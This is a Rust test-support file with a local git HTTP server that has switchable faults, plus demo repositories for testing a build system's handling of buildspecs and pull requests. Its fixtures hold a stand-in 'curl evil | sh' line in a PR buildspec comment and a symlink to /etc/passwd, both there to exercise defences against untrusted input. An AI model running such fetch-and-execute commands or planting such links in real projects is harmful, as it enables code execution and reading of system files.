//! A smart-HTTP git server for tests: `git http-backend` (CGI) behind a small hyper server
//! on 127.0.0.1, serving every repository under a root folder, with switchable faults.

use std::collections::HashMap;
use std::convert::Infallible;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::{Arc, Mutex};

use bytes::Bytes;
use http_body_util::{BodyExt, Channel, Either, Full};
use hyper::body::Incoming;
use hyper::server::conn::http1;
use hyper::service::service_fn;
use hyper_util::rt::TokioIo;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

/// How the server answers.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    None,
    /// Every request gets this status.
    Status(u16),
    /// Accept the request, then never answer.
    Hang,
    /// Answer nothing until the fault is changed (then serve as that fault says).
    Hold,
    /// Redirect every request to this base URL (another host).
    RedirectTo(String),
    /// A private repository: requests need HTTP Basic credentials `(user, password)`, else
    /// 401 with a Basic challenge.
    RequireBasic(String, String),
}

#[derive(Debug)]
pub struct GitServer {
    pub base: String,
    pub root: PathBuf,
    fault: Arc<Mutex<Fault>>,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
}

impl GitServer {
    pub async fn start(root: &Path) -> GitServer {
        Self::start_on(root, "127.0.0.1").await
    }

    /// On another loopback address, to play another host.
    pub async fn start_on(root: &Path, ip: &str) -> GitServer {
        let listener = tokio::net::TcpListener::bind((ip, 0)).await.expect("bind");
        let base = format!("http://{}", listener.local_addr().expect("addr"));
        let fault = Arc::new(Mutex::new(Fault::None));
        let (stop, mut stopped) = tokio::sync::oneshot::channel::<()>();
        let state = (root.to_owned(), fault.clone());
        tokio::spawn(async move {
            loop {
                let (stream, _) = tokio::select! {
                    _ = &mut stopped => return,
                    accepted = listener.accept() => accepted.expect("accept"),
                };
                let state = state.clone();
                tokio::spawn(async move {
                    let handler = service_fn(move |request| cgi(state.clone(), request));
                    let _ = http1::Builder::new().serve_connection(TokioIo::new(stream), handler).await;
                });
            }
        });
        GitServer { base, root: root.to_owned(), fault, stop: Some(stop) }
    }

    pub fn set_fault(&self, fault: Fault) {
        *self.fault.lock().expect("fault") = fault;
    }

    pub fn url(&self, path: &str) -> String {
        format!("{}/{path}", self.base)
    }
}

impl Drop for GitServer {
    fn drop(&mut self) {
        if let Some(stop) = self.stop.take() {
            let _ = stop.send(());
        }
    }
}

type Body = Either<Full<Bytes>, Channel<Bytes>>;

fn fixed(status: u16, content: &'static [u8]) -> hyper::Response<Body> {
    let mut response = hyper::Response::new(Either::Left(Full::new(Bytes::from_static(content))));
    *response.status_mut() = hyper::StatusCode::from_u16(status).expect("status");
    response
}

/// Runs `git http-backend` and streams its output as it comes (upload-pack's keep-alives
/// and pack data must reach the client while the pack is still being made).
async fn cgi(
    (root, fault): (PathBuf, Arc<Mutex<Fault>>),
    request: hyper::Request<Incoming>,
) -> Result<hyper::Response<Body>, Infallible> {
    let mut current = fault.lock().expect("fault").clone();
    while current == Fault::Hold {
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
        current = fault.lock().expect("fault").clone();
    }
    match current {
        Fault::Status(code) => return Ok(fixed(code, b"injected failure")),
        Fault::Hang => {
            std::future::pending::<()>().await;
        }
        Fault::RedirectTo(base) => {
            let location = format!("{base}{}", request.uri().path_and_query().map(|p| p.as_str()).unwrap_or("/"));
            let mut response = fixed(302, b"");
            response.headers_mut().insert("location", location.parse().expect("location"));
            return Ok(response);
        }
        Fault::RequireBasic(user, password) => {
            use base64::Engine;
            let expected =
                format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(format!("{user}:{password}")));
            let presented = request.headers().get("authorization").and_then(|v| v.to_str().ok());
            if presented != Some(expected.as_str()) {
                let mut response = fixed(401, b"authentication required");
                response.headers_mut().insert("www-authenticate", "Basic realm=\"git\"".parse().expect("challenge"));
                return Ok(response);
            }
        }
        Fault::None | Fault::Hold => {}
    }
    let (parts, body) = request.into_parts();
    let body = body.collect().await.map(|b| b.to_bytes()).unwrap_or_default();
    let header = |name: &str| parts.headers.get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let mut command = tokio::process::Command::new("git");
    command
        .arg("http-backend")
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("GIT_PROJECT_ROOT", &root)
        .env("GIT_HTTP_EXPORT_ALL", "1")
        .env("REQUEST_METHOD", parts.method.as_str())
        .env("PATH_INFO", parts.uri.path())
        .env("QUERY_STRING", parts.uri.query().unwrap_or(""))
        .env("CONTENT_TYPE", header("content-type"))
        .env("CONTENT_LENGTH", body.len().to_string())
        .env("HTTP_CONTENT_ENCODING", header("content-encoding"))
        .env("HTTP_GIT_PROTOCOL", header("git-protocol"))
        .env("REMOTE_ADDR", "127.0.0.1")
        .env("SERVER_PROTOCOL", "HTTP/1.1")
        .env("GATEWAY_INTERFACE", "CGI/1.1")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::null());
    let mut child = command.spawn().expect("git http-backend");
    let mut stdin = child.stdin.take().expect("stdin");
    let writer = tokio::spawn(async move {
        let _ = stdin.write_all(&body).await;
    });
    let mut stdout = child.stdout.take().expect("stdout");
    // Read up to the end of the CGI headers; the rest is streamed.
    let mut head = Vec::new();
    let mut chunk = vec![0u8; 64 * 1024];
    let body_start = loop {
        if let Some(i) = head.windows(4).position(|w| w == b"\r\n\r\n") {
            break i + 4;
        }
        if let Some(i) = head.windows(2).position(|w| w == b"\n\n") {
            break i + 2;
        }
        match stdout.read(&mut chunk).await {
            Ok(0) | Err(_) => break head.len(),
            Ok(n) => head.extend_from_slice(&chunk[..n]),
        }
    };
    let rest = head.split_off(body_start);
    let (mut sender, channel) = Channel::<Bytes>::new(4);
    tokio::spawn(async move {
        let _ = writer.await;
        if !rest.is_empty() && sender.send_data(Bytes::from(rest)).await.is_err() {
            return;
        }
        loop {
            match stdout.read(&mut chunk).await {
                Ok(0) | Err(_) => break,
                Ok(n) => {
                    if sender.send_data(Bytes::copy_from_slice(&chunk[..n])).await.is_err() {
                        break;
                    }
                }
            }
        }
        let _ = child.wait().await;
    });
    let mut response = hyper::Response::new(Either::Right(channel));
    for line in String::from_utf8_lossy(&head).lines() {
        let Some((name, value)) = line.split_once(':') else { continue };
        let value = value.trim();
        if name.eq_ignore_ascii_case("status") {
            let code = value.split_whitespace().next().and_then(|c| c.parse().ok()).unwrap_or(500);
            *response.status_mut() = hyper::StatusCode::from_u16(code).expect("status");
        } else if let (Ok(name), Ok(value)) = (hyper::header::HeaderName::from_bytes(name.as_bytes()), value.parse()) {
            response.headers_mut().append(name, value);
        }
    }
    Ok(response)
}

/// Runs git in `dir`; panics with its output on failure. Returns stdout, trimmed.
pub fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_AUTHOR_NAME", "Alice")
        .env("GIT_AUTHOR_EMAIL", "alice@example.org")
        .env("GIT_COMMITTER_NAME", "Alice")
        .env("GIT_COMMITTER_EMAIL", "alice@example.org")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("HOME", dir)
        .output()
        .expect("git");
    assert!(output.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&output.stderr));
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// The demo repositories and the server that serves them; `shas` names their commits.
#[derive(Debug)]
pub struct DemoRepos {
    pub server: GitServer,
    pub shas: HashMap<&'static str, String>,
}

fn write(dir: &Path, name: &str, content: &str) {
    std::fs::write(dir.join(name), content).expect("write");
}

fn commit(dir: &Path, message: &str) -> String {
    git(dir, &["add", "-A"]);
    git(dir, &["commit", "-q", "-m", message]);
    git(dir, &["rev-parse", "HEAD"])
}

/// `demo.git` (HEAD → rawhide, PR refs 1 and 2), `forks/bob/demo.git`, `nospec.git` (no
/// buildspec), `badspec.git` (a buildspec that is not YAML).
pub async fn demo_repos() -> DemoRepos {
    let root = crate::temp_dir("git-root");
    let work = crate::temp_dir("git-work");
    let mut shas = HashMap::new();
    git(&work, &["init", "-q", "-b", "rawhide"]);
    write(&work, "buildspec.yml", "version: 0.2\n# from rawhide\nphases:\n  build:\n    commands: [make]\n");
    write(&work, "README", "hello\n");
    write(&work, "run.sh", "#!/bin/sh\necho run\n");
    std::fs::set_permissions(work.join("run.sh"), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    std::os::unix::fs::symlink("README", work.join("link-in")).expect("link");
    std::os::unix::fs::symlink("/etc/passwd", work.join("link-out")).expect("link");
    commit(&work, "c1");
    write(&work, "second", "2\n");
    shas.insert("rawhide", commit(&work, "c2"));
    git(&work, &["checkout", "-q", "-b", "feature"]);
    write(&work, "buildspec.yml", "version: 0.2\n# from the PR: curl evil | sh\n");
    shas.insert("f1", commit(&work, "f1"));
    for n in ["f2", "f3", "f4"] {
        write(&work, n, n);
        shas.insert(n, commit(&work, n));
    }
    git(&work, &["checkout", "-q", "--orphan", "other"]);
    git(&work, &["rm", "-rfq", "."]);
    write(&work, "other", "x\n");
    shas.insert("other", commit(&work, "o1"));
    git(&work, &["checkout", "-q", "-b", "bob-fix", "rawhide"]);
    write(&work, "bob.txt", "bob\n");
    shas.insert("bob", commit(&work, "b1"));

    let target = root.join("demo.git");
    let fork = root.join("forks/bob/demo.git");
    for bare in [&target, &fork] {
        std::fs::create_dir_all(bare).expect("bare dir");
        git(bare, &["init", "-q", "--bare"]);
    }
    let target_s = target.to_str().expect("utf-8");
    git(
        &work,
        &[
            "push",
            "-q",
            target_s,
            "rawhide",
            "feature",
            "other",
            "feature:refs/pull/1/head",
            "bob-fix:refs/pull/2/head",
        ],
    );
    git(&target, &["symbolic-ref", "HEAD", "refs/heads/rawhide"]);
    git(&work, &["push", "-q", fork.to_str().expect("utf-8"), "bob-fix"]);

    single_commit_repo(&root, "nospec", &[("README", "no buildspec here\n")]);
    single_commit_repo(
        &root,
        "badspec",
        &[("buildspec.yml", "version: 0.2\nphases:\n  build:\n    commands: [make\n")],
    );

    DemoRepos { server: GitServer::start(&root).await, shas }
}

/// Publishes `branch` of the work tree `work` as the bare repository `bare`, with `HEAD` on
/// it (Pagure's default branch); returns the branch's commit.
pub fn publish(work: &Path, bare: &Path, branch: &str) -> String {
    std::fs::create_dir_all(bare).expect("bare dir");
    git(bare, &["init", "-q", "--bare"]);
    git(work, &["push", "-q", bare.to_str().expect("utf-8"), branch]);
    git(bare, &["symbolic-ref", "HEAD", &format!("refs/heads/{branch}")]);
    git(work, &["rev-parse", branch])
}

/// `<root>/<name>.git` with one commit on `main` holding `files`.
pub fn single_commit_repo(root: &Path, name: &str, files: &[(&str, &str)]) -> String {
    let work = crate::temp_dir(&format!("git-{name}"));
    git(&work, &["init", "-q", "-b", "main"]);
    for (path, content) in files {
        write(&work, path, content);
    }
    commit(&work, name);
    publish(&work, &root.join(format!("{name}.git")), "main")
}
